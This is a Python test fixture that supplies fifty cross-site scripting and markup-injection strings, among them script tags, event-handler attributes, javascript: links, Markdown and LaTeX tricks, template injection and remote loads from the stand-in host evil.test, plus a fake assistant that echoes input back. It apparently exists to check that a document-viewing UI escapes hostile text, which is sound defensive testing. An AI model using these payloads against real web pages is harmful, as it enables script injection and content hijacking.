"""Fifty strings that would run or load something if a page took them for more than text."""

from __future__ import annotations

from dataclasses import replace

from ui_fake import FakeAssistant, bright_plan

from corpus.outline import read_outline
from corpus.plan import Plan
from rag.answer import Answer, Status

RUN = "window.__xss=1"
STRINGS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    "<script src=http://evil.test/1.js></script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=http://evil.test/2 onerror={RUN}>",
    f'<img src="x" onerror="{RUN}"/>',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror=&#119;indow.__xss=1 title='{RUN}'>",
    "<img srcset='http://evil.test/3 1x'>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><image href=http://evil.test/4 /></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=//evil.test/5></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    "<object data=http://evil.test/6></object>",
    "<embed src=http://evil.test/7>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    "<audio src=http://evil.test/8 autoplay></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    "<link rel=stylesheet href=http://evil.test/9.css>",
    "<style>@import 'http://evil.test/10.css';</style>",
    "<div style=\"background:url('http://evil.test/11')\">x</div>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/12'>",
    "<base href=http://evil.test/13/>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=' &#14; javascript:{RUN}'>x</a>",
    "![x](http://evil.test/14.png)",
    f"![x](x 'a\" onerror=\"{RUN}')",
    f"[x](javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "<http://evil.test/15> www.evil.test/16 https://evil.test/17",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    "$$\\includegraphics{http://evil.test/18}$$ :material/home: :red[x]",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %>",
    f"\u202e>/{RUN}=daolno gvs<\u202c <svg/onload={RUN}>",
)


def hostile_plan() -> Plan:
    """A plan with these strings as its subject, its headings and its text."""
    plan = bright_plan()
    lines = [f"{number}. {text}\n\nNội dung {text}\n" for number, text in enumerate(STRINGS, 1)]
    text = "KẾ HOẠCH\n\nI. MỤC TIÊU\n\n" + "\n".join(lines)
    meta = replace(plan.meta, subject=" ".join(STRINGS), issuer=STRINGS[0], number=STRINGS[12])
    return Plan("doc-hai", text, meta, read_outline(text).sections)


class HostileAssistant(FakeAssistant):
    """Repeats the question, as read, in its words and in what it suggests next."""

    def ask(self, question: str, history: object = ()) -> Answer:
        """An answer made of the question alone."""
        return Answer(
            Status.NOT_STATED,
            f"{question}\n- {question}",
            reading=question,
            suggestions=(f"{question} nữa",),
        )
